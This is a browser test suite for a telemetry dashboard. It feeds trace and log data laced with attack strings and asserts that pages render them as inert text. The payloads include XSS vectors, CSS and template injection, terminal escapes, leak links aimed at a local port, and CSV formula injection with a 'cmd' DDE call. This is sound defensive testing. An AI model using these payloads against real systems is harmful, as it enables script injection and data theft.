"""Text of senders stays text on every page: no script runs, no dialog opens, no other host is contacted."""

from __future__ import annotations

import json
import os
import time
from typing import TYPE_CHECKING
from urllib.parse import quote

import pyarrow as pa
import pytest
from agent_runs import attributes
from browsing import drawn, opened, page_of
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest

from collector.cli.render import render

if TYPE_CHECKING:
    from collections.abc import Iterator

    from instance import Instance
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

ATTACKS = {
    "tag": "<img src=x onerror='window.owned=1'>",
    "script": "</script><script>window.owned=1</script>",
    "frame": "<iframe src='javascript:parent.owned=1'></iframe>",
    "vector": "<svg/onload=window.owned=1>",
    "style": "</style><style>*{display:none}</style>",
    "quote": "\"'`><b onmouseover=window.owned=1 style=position:fixed;inset:0>",
    "link": "[press](javascript:window.owned=1)",
    "picture": "![p](http://127.0.0.1:9/leak.png)",
    "address": "javascript:window.owned=1//http://127.0.0.1:9/leak",
    "bold": "**bold** :red[red] :material/home: $x^2$ &lt;b&gt;",
    "template": "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} %{customdata}",
    "terminal": "\x1b[31mred\x1b]0;title\x07 \x9b5m",
    "turned": "abc\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "hidden": "a\u200bb\u200dc\ufeffd\u00ade\U000e0041",
    "formula": '=HYPERLINK("http://127.0.0.1:9/"&A1,"press")',
    "proto": "__proto__",
}


def hostile_spans(number: int, attack: str, trace_id: bytes) -> bytes:
    """Return four spans with the attack in every text that a page can show."""
    request, now = ExportTraceServiceRequest(), time.time_ns() - number * 10**9
    envelope = request.resource_spans.add()
    named = {"service.name": attack, "spanledger.team": attack, "spanledger.workflow": attack, attack: attack}
    named |= {"service.version": attack, "deployment.environment.name": attack}
    envelope.resource.attributes.extend(attributes(named))
    scope = envelope.scope_spans.add()
    scope.scope.name, scope.scope.version = attack, attack
    root_id = os.urandom(8)
    messages = json.dumps([{"role": attack, "parts": [{"type": "text", "content": f"{attack}\n\n# {attack}"}]}])
    called = [
        {
            "role": "assistant",
            "parts": [{"type": "tool_call", "id": attack, "name": attack, "arguments": {attack: attack}}],
        }
    ]
    for index, operation in enumerate(("invoke_agent", "chat", "execute_tool", "embeddings")):
        span = scope.spans.add(trace_id=trace_id, span_id=root_id if index == 0 else os.urandom(8), name=attack)
        if index:
            span.parent_span_id = root_id
        span.start_time_unix_nano, span.end_time_unix_nano = now - 10**9 + index, now - 10**8 * index
        span.status.code, span.status.message = 2, attack
        span.trace_state = "a=b"
        span.attributes.extend(
            attributes(
                {
                    "gen_ai.operation.name": operation,
                    "gen_ai.agent.name": attack,
                    "gen_ai.tool.name": attack,
                    "gen_ai.provider.name": attack,
                    "gen_ai.request.model": attack,
                    "gen_ai.conversation.id": attack,
                    "user.id": attack,
                    "error.type": attack,
                    "gen_ai.usage.input_tokens": 10,
                    "gen_ai.input.messages": messages,
                    "gen_ai.output.messages": json.dumps(called),
                    "gen_ai.system_instructions": json.dumps([{"type": "text", "content": attack}]),
                    "gen_ai.tool.definitions": json.dumps(
                        [{"name": attack, "description": attack, "parameters": {attack: attack}}]
                    ),
                    "input.value": attack,
                    "output.value": attack,
                    attack: attack,
                }
            )
        )
        event = span.events.add(name=attack, time_unix_nano=now)
        event.attributes.extend(
            attributes({"exception.message": attack, "exception.stacktrace": attack, attack: attack})
        )
        span.links.add(trace_id=os.urandom(16), span_id=os.urandom(8)).attributes.extend(attributes({attack: attack}))
    return request.SerializeToString()


def hostile_log(trace_id: bytes, attack: str) -> bytes:
    request = ExportLogsServiceRequest()
    record = (
        request.resource_logs.add()
        .scope_logs.add()
        .log_records.add(trace_id=trace_id, time_unix_nano=time.time_ns(), severity_text=attack, event_name=attack)
    )
    record.body.string_value = attack
    record.attributes.extend(attributes({attack: attack}))
    return request.SerializeToString()


@pytest.fixture(scope="module")
def trace(attacked: Instance) -> str:
    """Store one run per attack, for the lists, and one run with all attacks; return the trace id of the last one."""
    together = os.urandom(16)
    sent = [together]
    for number, attack in enumerate(ATTACKS.values()):
        sent.append(os.urandom(16))
        for trace_id in (sent[-1], together):
            assert attacked.send(hostile_spans(number, attack, trace_id)).status_code == 200
            assert attacked.send(hostile_log(trace_id, attack), "logs").status_code == 200
    attacked.settled()
    listed = ", ".join(f"'{trace_id.hex()}'" for trace_id in sent)
    attacked.wait(
        lambda: (
            attacked.sql(f"SELECT sum(span_count) AS n FROM runs FINAL WHERE trace_id IN ({listed})")
            == [{"n": 8 * len(ATTACKS)}]
        ),
        "the runs",
    )
    return together.hex()


class Watched:
    """A browser page that may contact only the dashboard, and in which no script of a sender may run."""

    def __init__(self, page: Page, host: str) -> None:
        self.page = page
        self.wrong: list[str] = []
        page.on("dialog", lambda dialog: (self.wrong.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.wrong.append(f"error {error}"))
        page.on("popup", lambda popup: self.wrong.append(f"popup {popup.url}"))
        page.on("request", lambda request: self._note(request.url, host))

    def _note(self, url: str, host: str) -> None:
        if not url.startswith((host, host.replace("http", "ws", 1), "data:image", "blob:" + host)):
            self.wrong.append(f"asked for {url}")

    def assert_safe(self) -> None:
        assert self.wrong == []
        assert self.page.evaluate("window.owned") is None
        assert (
            self.page.locator("iframe[src^=javascript], a[href^='javascript' i], img[src='x'], [onmouseover]").count()
            == 0
        )
        assert self.page.locator("img[src*='leak']").count() == 0
        elsewhere = "links => links.filter(link => link.origin !== location.origin).map(link => link.href)"
        assert [href for href in self.page.eval_on_selector_all("a[href]", elsewhere) if "leak" in href] == []


@pytest.fixture
def watched(browser: Browser, attacked: Instance, trace: str) -> Iterator[Watched]:
    assert trace
    with page_of(browser, attacked) as page:
        yield Watched(page, attacked.endpoints["dashboard"])


@pytest.mark.parametrize("path", ["/?range=7d", "/costs?range=7d", "/latency?range=7d", "/ledger?range=7d"])
def test_lists_and_charts_show_text(watched: Watched, path: str) -> None:
    opened(watched.page, path)
    watched.page.wait_for_timeout(500)
    if path.startswith("/?"):
        for name in ("tag", "bold", "link"):
            watched.page.get_by_text(ATTACKS[name], exact=False).first.wait_for(state="attached")
    watched.assert_safe()


@pytest.mark.parametrize("name", ["tag", "link", "bold"])
def test_a_filter_by_a_hostile_name_shows_it_as_text(watched: Watched, name: str) -> None:
    opened(watched.page, f"/?range=7d&team={quote(ATTACKS[name], safe='')}")
    watched.page.get_by_text(ATTACKS[name], exact=False).first.wait_for(state="attached")
    watched.assert_safe()
    assert watched.page.locator("strong", has_text="bold").count() == 0


def test_a_run_shows_text_in_every_place(watched: Watched, trace: str) -> None:
    page = opened(watched.page, f"/run?trace={trace}")
    page.locator(".trace[data-ready='1']").wait_for()
    rows = page.get_by_role("treeitem")
    stored = page.request.get(f"/api/runs/{trace}/spans").json()["name"]
    assert len(stored) == 4 * len(ATTACKS)
    shown = rows.locator(".label").all_text_contents()
    assert len(shown) > len(ATTACKS)
    assert set(shown) <= set(stored)
    assert ATTACKS["tag"] in stored
    for index in range(0, rows.count(), 2):
        rows.nth(index).click()
        page.wait_for_timeout(50)
        page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true; })")
    watched.assert_safe()


def test_a_replay_shows_text(watched: Watched, trace: str) -> None:
    opened(watched.page, f"/replay?trace={trace}")
    for _ in range(10):
        watched.page.keyboard.press("ArrowRight")
        watched.page.wait_for_timeout(50)
    drawn(watched.page)
    watched.assert_safe()


@pytest.mark.parametrize(
    "address",
    [
        "/run?trace=<script>window.owned=1</script>",
        "/?team=%3Cimg%20src=x%20onerror=window.owned=1%3E",
        "/?range=javascript:window.owned=1",
        "/run?trace=" + "a" * 5000,
    ],
)
def test_an_address_is_no_markup(watched: Watched, address: str) -> None:
    opened(watched.page, address)
    watched.assert_safe()


FORMULAS = ["=1+1", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", " =1"]  # noqa: RUF001 - the full-width sign counts too


def test_no_cell_of_csv_is_a_formula_and_numbers_stay_numbers() -> None:
    rows = pa.table(
        {"=name": FORMULAS, "cost": [-1.5] * len(FORMULAS), "count": pa.array([-1] * len(FORMULAS), pa.int64())}
    )
    lines = render(rows, "csv").replace("\r", "⏎")
    assert lines.splitlines()[0] == "'=name,cost,count"
    for formula in FORMULAS:
        assert f"'{formula}".replace("\r", "⏎") in lines
    assert lines.count(",-1.5,-1") == len(FORMULAS)
    assert json.loads(render(rows, "json"))[0]["=name"] == "=1+1", "JSON is for programs, and exact"


def test_a_terminal_gets_no_control_characters() -> None:
    shown = render(pa.table({"name\x1b[31m": ["\x1b]0;title\x07", "a\u202eb", "\x9b5m"]}), "table")
    assert not any(ord(character) < 32 and character != "\n" for character in shown)
    assert not any(character in shown for character in "\x1b\x9b\u202e")
